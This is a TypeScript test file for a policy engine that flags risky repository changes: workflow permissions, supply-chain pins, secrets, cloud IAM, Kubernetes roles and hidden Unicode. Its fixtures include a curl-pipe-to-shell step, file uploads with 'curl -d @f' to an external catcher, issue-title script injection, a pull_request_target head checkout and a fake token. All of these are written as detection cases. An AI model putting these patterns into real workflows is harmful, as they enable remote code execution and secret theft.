import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { contentKey, type FileMode, type ListedFile } from "../../../rules/change/listing.ts";
import { judge } from "../../../rules/judge.ts";
import { packSource } from "../../../rules/packs/packs.ts";
import { loadPolicies } from "../../../rules/policy/load.ts";
import type { Evidence } from "../../../rules/evidence.ts";
import { buildFacts } from "../../../rules/facts/build.ts";
import { evaluatePolicy } from "../../../rules/policy/evaluate.ts";
import type { Policy } from "../../../rules/policy/policy-set.ts";
import { changeOf } from "../capabilities/changes.ts";
import { allSamples } from "../capabilities/formats/all-samples.ts";
import { evidenceOf } from "../sample-evidence.ts";

/** One version of a file: its text or bytes, and its mode where it is no plain file. */
type Version = string | Uint8Array | { readonly mode: FileMode; readonly bytes: string };

interface Case {
  readonly policy: string;
  readonly decision?: "DENY" | "WARN";
  readonly when: string;
  readonly path: string;
  readonly base?: Version;
  readonly head?: Version;
}

const CI = ".github/workflows/ci.yml";
const PIN = "0123456789abcdef0123456789abcdef01234567";

/** A workflow of one job with these steps, whose token may do nothing. */
function steps(list: string, { on = "push", job = "" } = {}): string {
  return `on: ${on}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n${job}    steps:\n${list}`;
}

const run = (script: string): string => `      - run: ${JSON.stringify(script)}\n`;
const uses = (action: string, rest = ""): string => `      - uses: ${action}\n${rest}`;
const checkout = (rest: string): string => uses(`actions/checkout@${PIN}`, rest);
const plain = steps(run("make"));
const zip = new Uint8Array([0x50, 0x4b, 3, 4, 0x14, 0, 0, 0, 8, 0]);
const elf = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0]);
const title = "echo ${{ github.event.issue.title }}";

const sandbox = "com.apple.security.app-sandbox";

const android = 'xmlns:a="http://schemas.android.com/apk/res/android"';

const own = "version: 1\nextends: [bailiff:recommended@1]\n";

const lock = (integrity: string): string =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: {
      "node_modules/a": {
        version: "1.0.0",
        resolved: "https://registry.npmjs.org/a/-/a-1.0.0.tgz",
        integrity,
      },
    },
  });

const pom = (scheme: string): string =>
  `<project><distributionManagement><repository><id>a</id><url>${scheme}://repo.acme.dev/a</url></repository></distributionManagement></project>\n`;

/** Assembled here, so that no scanner takes this file for one that holds it. */
const token = `ghp_${"a1B2c3D4e5F6g7H8i9J0".repeat(2).slice(0, 36)}`;

const MAIN = "main.tf";
const allowed = (actions: string, effect = "Allow", condition = ""): string => {
  return `data "aws_iam_policy_document" "a" {
  statement {
    effect    = "${effect}"
    actions   = [${actions}]
    resources = ["*"]
${condition}  }
}
`;
};
const trusting = (who: string): string => {
  const principals = `    principals {\n      type = "AWS"\n      identifiers = ["${who}"]\n    }\n`;
  return allowed('"sts:AssumeRole"', "Allow", principals);
};
const named = (type: string, settings: string): string =>
  `resource "${type}" "a" {\n${settings}}\n`;
const ingress = (port: number): string => {
  const ports = `  from_port = ${port}\n  to_port = ${port}\n  ip_protocol = "tcp"\n`;
  return named("aws_vpc_security_group_ingress_rule", `${ports}  cidr_ipv4 = "0.0.0.0/0"\n`);
};
const bounded = (boundary: string): string =>
  named("aws_iam_role", `  permissions_boundary = ${boundary}\n`);

const inCloud = (when: string, sides: Pick<Case, "decision" | "base" | "head">): Case => {
  return { policy: "cloud-permissions", when, path: MAIN, ...sides };
};

const cloudCases: readonly Case[] = [
  inCloud("a policy allows to write", {
    base: allowed('"s3:GetObject"'),
    head: allowed('"s3:PutObject"'),
  }),
  inCloud("everybody is trusted", { base: trusting("123456789012"), head: trusting("*") }),
  inCloud("a port for administrators is open", { head: ingress(22) }),
  inCloud("a policy allows to read", {
    ...{ decision: "WARN", base: allowed('"s3:GetObject"') },
    head: allowed('"s3:GetObject", "s3:ListBucket"'),
  }),
  inCloud("another port is open", { decision: "WARN", head: ingress(8443) }),
  inCloud("a role is no longer bounded", {
    base: bounded("var.a"),
    head: named("aws_iam_role", ""),
  }),
  inCloud("a role is bounded otherwise", {
    decision: "WARN",
    base: bounded("var.a"),
    head: bounded("var.b"),
  }),
  inCloud("a denial asks for something else", {
    decision: "WARN",
    base: allowed(
      '"s3:*"',
      "Deny",
      '    condition {\n test = "Bool"\n variable = "a"\n values = ["true"]\n }\n',
    ),
    head: allowed(
      '"s3:*"',
      "Deny",
      '    condition {\n test = "Bool"\n variable = "b"\n values = ["true"]\n }\n',
    ),
  }),
  inCloud("the state goes elsewhere", {
    decision: "WARN",
    head: 'terraform {\n  backend "s3" {\n  }\n}\n',
  }),
  {
    policy: "cloud-permissions",
    when: "a denial is gone",
    path: MAIN,
    base: allowed('"s3:*"', "Deny"),
    head: allowed('"s3:GetObject"'),
  },
  {
    policy: "cloud-permissions",
    decision: "WARN",
    when: "a bucket is no longer kept closed",
    path: MAIN,
    base: named("aws_s3_bucket_public_access_block", "  block_public_acls = true\n"),
    head: named("aws_s3_bucket_public_access_block", ""),
  },
];

const fires: readonly Case[] = [
  {
    policy: "owners-weakened",
    when: "the owners are deleted",
    path: "CODEOWNERS",
    base: "* @ann\n",
  },
  {
    policy: "owners-weakened",
    when: "a rule takes paths from them",
    path: "CODEOWNERS",
    base: "* @ann\n",
    head: "* @ann\n/src/\n",
  },
  {
    policy: "owners-weakened",
    decision: "WARN",
    when: "another one takes over",
    path: "CODEOWNERS",
    base: "* @ann\n",
    head: "* @bo\n",
  },
  {
    policy: "owners-weakened",
    decision: "WARN",
    when: "a rule leaves its paths to an older one",
    path: "CODEOWNERS",
    base: "* @ann\n/CODEOWNERS @bo\n",
    head: "* @ann\n",
  },
  {
    policy: "owners-weakened",
    decision: "WARN",
    when: "a line is none",
    path: "CODEOWNERS",
    head: "!a @ann\n",
  },
  {
    policy: "tests-removed",
    decision: "WARN",
    when: "a test file is deleted",
    path: "a_test.go",
    base: "package a\n",
  },
  {
    policy: "tests-removed",
    decision: "WARN",
    when: "a test is left out",
    path: "a.test.ts",
    base: "it('a');\n",
    head: "it('a');\nit.skip('b');\n",
  },
  {
    policy: "owners-weakened",
    decision: "WARN",
    when: "it is deleted",
    path: "SECURITY.md",
    base: "security@acme.example\n",
  },
  {
    policy: "new-permissions",
    when: "a job may write",
    path: CI,
    base: plain,
    head: plain.replace("permissions: {}", "permissions: { contents: write }"),
  },
  {
    policy: "new-permissions",
    when: "outsiders can start a workflow",
    path: CI,
    base: plain,
    head: plain.replace("on: push", "on: issue_comment"),
  },
  {
    policy: "supply-chain",
    decision: "WARN",
    when: "a script comes to run in every checkout",
    path: "package.json",
    base: "{}",
    head: '{"scripts": {"prepare": "husky"}}',
  },
  {
    policy: "supply-chain",
    decision: "WARN",
    when: "a scope has no registry of its own any more",
    path: ".npmrc",
    base: "@acme:registry=https://npm.acme.dev/\n",
    head: "\n",
  },
  {
    policy: "supply-chain",
    when: "the same version has another content",
    path: "package-lock.json",
    base: lock("sha512-AA=="),
    head: lock("sha512-BB=="),
  },
  {
    policy: "supply-chain",
    decision: "WARN",
    when: "the same version is told by another sort of digest",
    path: "package-lock.json",
    base: lock("sha1-AA=="),
    head: lock("sha512-BB=="),
  },
  {
    policy: "container-privileges",
    decision: "WARN",
    when: "a service gets one more capability",
    path: "compose.yml",
    base: "services: { a: { image: b } }\n",
    head: "services: { a: { image: b, cap_add: [NET_ADMIN] } }\n",
  },
  {
    policy: "container-privileges",
    decision: "WARN",
    when: "a new image ends as root",
    path: "Dockerfile",
    head: "FROM alpine:3.21\nUSER root\n",
  },
  {
    policy: "container-privileges",
    decision: "WARN",
    when: "a command runs where a folder is opened",
    path: ".devcontainer.json",
    base: '{"image": "a"}',
    head: '{"image": "a", "postCreateCommand": "make"}',
  },
  {
    policy: "guards-weakened",
    when: "a workflow has Bailiff judge no more",
    path: CI,
    base: steps(run("make") + uses(`acme/bailiff@${PIN}`)),
    head: plain,
  },
  {
    policy: "guards-weakened",
    when: "a workflow has Bailiff judge under a condition",
    path: CI,
    base: steps(uses(`acme/bailiff@${PIN}`)),
    head: steps(uses(`acme/bailiff@${PIN}`, "        if: github.actor != 'mallory'\n")),
  },
  {
    policy: "guards-weakened",
    when: "somebody comes to administer the repository",
    path: ".github/settings.yml",
    base: "collaborators: []\n",
    head: "collaborators: [{ username: ann, permission: admin }]\n",
  },
  {
    policy: "supply-chain",
    when: "releases are sent in the clear",
    path: "pom.xml",
    base: pom("https"),
    head: pom("http"),
  },
  { policy: "secrets", when: "a token is written down", path: "src/a.ts", head: `"${token}"` },
  {
    policy: "secrets",
    decision: "WARN",
    when: "a token stands in a test",
    path: "test/a.test.ts",
    head: `"${token}"`,
  },
  {
    policy: "app-permissions",
    when: "an extension may reach every host",
    path: "manifest.json",
    head: '{"manifest_version":3,"host_permissions":["<all_urls>"]}',
  },
  {
    policy: "app-permissions",
    when: "an app leaves its sandbox",
    path: "App.entitlements",
    base: `<dict><key>${sandbox}</key><true/></dict>`,
    head: `<dict><key>${sandbox}</key><false/></dict>`,
  },
  {
    policy: "app-permissions",
    decision: "WARN",
    when: "a GitHub App may read",
    path: "app.yml",
    head: "default_permissions: { issues: read }\n",
  },
  {
    policy: "app-permissions",
    decision: "WARN",
    when: "a task may start some programs",
    path: "deno.json",
    head: '{"tasks":{"a":"deno run --allow-run=git a.ts"}}',
  },
  {
    policy: "app-permissions",
    decision: "WARN",
    when: "a script leaves Node's permission model",
    path: "package.json",
    base: '{"scripts":{"start":"node --permission a.js"}}',
    head: '{"scripts":{"start":"node a.js"}}',
  },
  {
    policy: "app-permissions",
    decision: "WARN",
    when: "a script under Node's permission model starts another program",
    path: "package.json",
    base: '{"scripts":{"start":"node --permission a.js"}}',
    head: '{"scripts":{"start":"sh a.sh"}}',
  },
  {
    policy: "app-permissions",
    decision: "WARN",
    when: "an app no longer says which traffic it trusts",
    path: "AndroidManifest.xml",
    base: `<manifest ${android}><application a:networkSecurityConfig="@xml/a"/></manifest>`,
    head: `<manifest ${android}><application/></manifest>`,
  },
  {
    policy: "policy-change",
    when: "the policies are weakened",
    path: ".github/bailiff.yml",
    base: own,
    head: "version: 1\npolicies: []\n",
  },
  {
    policy: "policy-change",
    when: "the policies are deleted",
    path: ".github/bailiff.yml",
    base: own,
  },
  {
    policy: "policy-change",
    when: "the policies become a link",
    path: ".github/bailiff.yml",
    base: own,
    head: { mode: "120000", bytes: "lax.yml" },
  },
  {
    policy: "new-permissions",
    when: "a job declares none",
    path: CI,
    head: plain.replace("permissions: {}\n", ""),
  },
  {
    policy: "untrusted-code",
    when: "a title is run",
    path: CI,
    base: plain,
    head: steps(run(title)),
  },
  {
    policy: "untrusted-code",
    when: "an input becomes a title",
    path: CI,
    base: steps(run("echo ${{ inputs.title }}")),
    head: steps(run(title)),
  },
  {
    policy: "untrusted-code",
    decision: "WARN",
    when: "the script around a title is edited",
    path: CI,
    base: steps(run(title)),
    head: steps(run(`${title} twice`)),
  },
  {
    policy: "untrusted-code",
    when: "the head of a pull request is checked out beside secrets",
    path: CI,
    base: steps(checkout(""), { on: "pull_request_target" }),
    head: steps(checkout("        with: { ref: '${{ github.head_ref }}' }\n"), {
      on: "pull_request_target",
    }),
  },
  {
    policy: "untrusted-code",
    decision: "WARN",
    when: "an action checks out whoever called it",
    path: "action.yml",
    head: `name: a\nruns:\n  using: composite\n  steps:\n    - uses: actions/checkout@${PIN}\n      with: { ref: "\${{ github.head_ref }}" }\n`,
  },
  {
    policy: "supply-chain",
    when: "a pin becomes a tag",
    path: CI,
    base: steps(uses(`o/a@${PIN}`)),
    head: steps(uses("o/a@v1")),
  },
  {
    policy: "supply-chain",
    decision: "WARN",
    when: "a tag of others is added",
    path: CI,
    base: plain,
    head: steps(uses("o/a@v1")),
  },
  {
    policy: "supply-chain",
    decision: "WARN",
    when: "a pin of GitHub's own becomes a tag",
    path: CI,
    base: steps(uses(`actions/cache@${PIN}`)),
    head: steps(uses("actions/cache@v4")),
  },
  {
    policy: "supply-chain",
    decision: "WARN",
    when: "a tag is dressed as a pin",
    path: CI,
    base: steps(uses("actions/cache@v4")),
    head: steps(uses(`actions/cache@v4 # ${PIN}`)),
  },
  {
    policy: "secrets",
    decision: "WARN",
    when: "a secret is read",
    path: CI,
    base: plain,
    head: steps(run("x ${{ secrets.KEY }}")),
  },
  {
    policy: "new-permissions",
    decision: "WARN",
    when: "a token is made of a key",
    path: CI,
    base: plain,
    head: steps(
      uses(
        `actions/create-github-app-token@${PIN}`,
        "        with: { app-id: 1, private-key: k }\n",
      ),
    ),
  },
  {
    policy: "new-permissions",
    decision: "WARN",
    when: "a job moves to a machine of ours",
    path: CI,
    base: plain,
    head: plain.replace("ubuntu-latest", "self-hosted"),
  },
  {
    policy: "new-permissions",
    when: "a container is privileged",
    path: CI,
    base: plain,
    head: steps(run("make"), {
      job: `    container: { image: 'a@sha256:${PIN}${PIN.slice(0, 24)}', options: --privileged }\n`,
    }),
  },
  {
    policy: "untrusted-code",
    when: "they are allowed",
    path: CI,
    base: plain,
    head: steps(run("make"), { job: "    env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true }\n" }),
  },
  {
    policy: "secrets",
    decision: "WARN",
    when: "a checkout keeps its token again",
    path: CI,
    base: steps(checkout("        with: { persist-credentials: false }\n")),
    head: steps(checkout("")),
  },
  {
    policy: "supply-chain",
    decision: "WARN",
    when: "it is piped to a shell",
    path: CI,
    base: plain,
    head: steps(run("curl https://x.example/i | sh")),
  },
  {
    policy: "secrets",
    decision: "WARN",
    when: "a file is posted",
    path: CI,
    base: plain,
    head: steps(run("curl -d @f https://x.example")),
  },
  {
    policy: "secrets",
    when: "it goes to a catcher",
    path: CI,
    base: plain,
    head: steps(run("curl -d @f https://webhook.site/1")),
  },
  {
    policy: "hidden-content",
    when: "a link leaves",
    path: "a",
    head: { mode: "120000", bytes: "../x" },
  },
  {
    policy: "changed-type",
    decision: "WARN",
    when: "a file becomes a link",
    path: "a",
    base: "b",
    head: { mode: "120000", bytes: "b" },
  },
  {
    policy: "supply-chain",
    when: "nothing says whose",
    path: "a",
    head: { mode: "160000", bytes: "" },
  },
  {
    policy: "supply-chain",
    when: "git is to run one",
    path: ".gitmodules",
    head: '[submodule "a"]\n\tpath = a\n\turl = https://x.example\n\tupdate = !make\n',
  },
  {
    policy: "supply-chain",
    decision: "WARN",
    when: "one is added",
    path: ".gitmodules",
    head: '[submodule "a"]\n\tpath = a\n\turl = https://x.example\n',
  },
  { policy: "opaque-content", when: "a program is added", path: "tool", head: elf },
  { policy: "opaque-content", when: "an archive has the name of a text", path: "a.yml", head: zip },
  {
    policy: "opaque-content",
    decision: "WARN",
    when: "an archive is added",
    path: "a.zip",
    head: zip,
  },
  {
    policy: "opaque-content",
    decision: "WARN",
    when: "bytes become executable",
    path: "a.zip",
    base: zip,
    head: { mode: "100755", bytes: String.fromCharCode(...zip) },
  },
  {
    policy: "opaque-content",
    decision: "WARN",
    when: "its source is not changed",
    path: "dist/a.min.js",
    base: "1",
    head: "2",
  },
  { policy: "hidden-content", when: "a name hides a character", path: "a\u200bb", head: "x" },
  {
    policy: "hidden-content",
    when: "code is turned around",
    path: "a.js",
    head: "x // \u202e y\n",
  },
  {
    policy: "hidden-content",
    when: "tags are hidden in prose",
    path: "a.md",
    head: "x\u{e0041}\n",
  },
  {
    policy: "hidden-content",
    decision: "WARN",
    when: "a space has no width",
    path: "a.js",
    head: "const a\u200b = 1;\n",
  },
  {
    policy: "hidden-content",
    decision: "WARN",
    when: "a letter is another's",
    path: "a.js",
    head: "p\u0430y();\n",
  },
  {
    policy: "cluster-permissions",
    when: "a role of the cluster may delete pods",
    path: "k8s/role.yaml",
    base: clusterRole("get"),
    head: clusterRole("get, delete"),
  },
  {
    policy: "cluster-permissions",
    when: "anybody gets a role",
    path: "k8s/binding.yaml",
    head: "apiVersion: v1\nkind: RoleBinding\nroleRef: { name: a }\nsubjects: [{ kind: Group, name: system:authenticated }]\n",
  },
  {
    policy: "cluster-permissions",
    when: "a container becomes privileged",
    path: "k8s/pod.yaml",
    head: "apiVersion: v1\nkind: Pod\nspec: { containers: [{ securityContext: { privileged: true } }] }\n",
  },
  {
    policy: "cluster-permissions",
    decision: "WARN",
    when: "a role of the cluster may read more",
    path: "k8s/role.yaml",
    base: clusterRole("get"),
    head: clusterRole("get, list"),
  },
  {
    policy: "cluster-permissions",
    decision: "WARN",
    when: "a service is reached from outside",
    path: "k8s/service.yaml",
    head: "apiVersion: v1\nkind: Service\nspec: { type: LoadBalancer }\n",
  },
  ...cloudCases,
];

/** The recommended pack, one rule after the other. */
function rules(): readonly Policy[] {
  const pack = packSource("bailiff:recommended");
  return loadPolicies(pack === null ? [] : [pack], false).policies;
}

function policiesOf(change: Omit<Case, "policy" | "when">): [string, string][] {
  const { verdict } = judge(evidenceFor(change));
  return verdict.reasons.map(({ policyId, decision }) => [policyId, decision]);
}

function evidenceFor({ path, base, head }: Omit<Case, "policy" | "when">): Evidence {
  const contents = new Map<string, Uint8Array>();
  const file = { path };
  for (const [side, version] of Object.entries({ base, head })) {
    if (version === undefined) continue;
    const { mode, bytes } =
      typeof version === "string" || version instanceof Uint8Array
        ? { mode: "100644" as const, bytes: version }
        : version;
    const content =
      typeof bytes === "string"
        ? mode === "100755"
          ? Buffer.from(bytes, "latin1")
          : Buffer.from(bytes)
        : bytes;
    if (mode !== "160000") contents.set(contentKey(side as "base" | "head", path), content);
    Object.assign(file, {
      [side]: { mode, oid: createHash("sha1").update(content).digest("hex") },
    });
  }
  const evidence = evidenceOf([], []);
  const pack = packSource("bailiff:recommended");
  const policies = loadPolicies(pack === null ? [] : [pack], false);
  const listing = { ...evidence.listing, files: [file as ListedFile] };
  return { ...evidence, policies, contents, listing };
}

test.each(fires)("$policy: $when", ({ policy, decision = "DENY", ...change }) => {
  expect(policiesOf(change)).toContainEqual([policy, decision]);
});

test("every rule of the pack is fired here or by a reader's samples, but what only a missing object fires", () => {
  const all = rules();
  const sampled = allSamples.flatMap(({ gains, losses = [] }) => [...gains, ...losses]);
  const changes = [
    ...fires.map((change) => buildFacts(evidenceFor(change))),
    ...sampled.map(({ base, head }) =>
      buildFacts({ ...evidenceOf([], []), ...changeOf(base, head) }),
    ),
  ];
  const silent = all.filter(
    (rule) => !changes.some((facts) => evaluatePolicy(rule, facts).outcome === "fail"),
  );
  expect(silent.map(({ message }) => message)).toEqual([
    "{{item.path}} was not read: {{item.name}}",
  ]);
});

test.each<Omit<Case, "policy">>([
  { when: "policies come where none were", path: ".github/bailiff.yml", head: own },
  {
    when: "a pin moves to another commit",
    path: CI,
    base: steps(uses(`o/a@${PIN}`)),
    head: steps(uses(`o/a@${PIN.replace("0", "f")}`)),
  },
  {
    when: "a tag moves to another tag",
    path: CI,
    base: steps(uses("o/a@v1")),
    head: steps(uses("o/a@v2")),
  },
  {
    when: "a tag of GitHub's own is added",
    path: CI,
    base: plain,
    head: steps(uses("actions/cache@v4")),
  },
  {
    when: "a title goes through env",
    path: CI,
    base: plain,
    head: `${steps(run('echo "$T"'))}        env: { T: '\${{ github.event.issue.title }}' }\n`,
  },
  { when: "a checkout is added", path: CI, base: plain, head: steps(checkout("")) },
  {
    when: "a job runs elsewhere at GitHub",
    path: CI,
    base: plain,
    head: plain.replace("ubuntu-latest", "macos-15"),
  },
  {
    when: "a script becomes executable",
    path: "a.sh",
    base: "#!/bin/sh\n",
    head: { mode: "100755", bytes: "#!/bin/sh\n" },
  },
  { when: "a link stays inside", path: "a/b", head: { mode: "120000", bytes: "../c" } },
  { when: "a link becomes a file", path: "a", base: { mode: "120000", bytes: "b" }, head: "b" },
  {
    when: "a picture is added",
    path: "a.png",
    head: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0]),
  },
  { when: "an archive is removed and a text stands there", path: "a.zip", base: zip, head: "x\n" },
  {
    when: "prose joins and turns its letters",
    path: "a.md",
    head: "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u200f(x)\u200e \u{1f468}\u200d\u{1f469}\n",
  },
  { when: "a Greek letter is a name", path: "a.js", head: "const \u0394t = 1;\n" },
])("nothing: $when", (change) => {
  expect(policiesOf(change)).toEqual([]);
});

function clusterRole(verbs: string): string {
  return `apiVersion: v1\nkind: ClusterRole\nrules: [{ apiGroups: [a], resources: [b], verbs: [${verbs}] }]\n`;
}
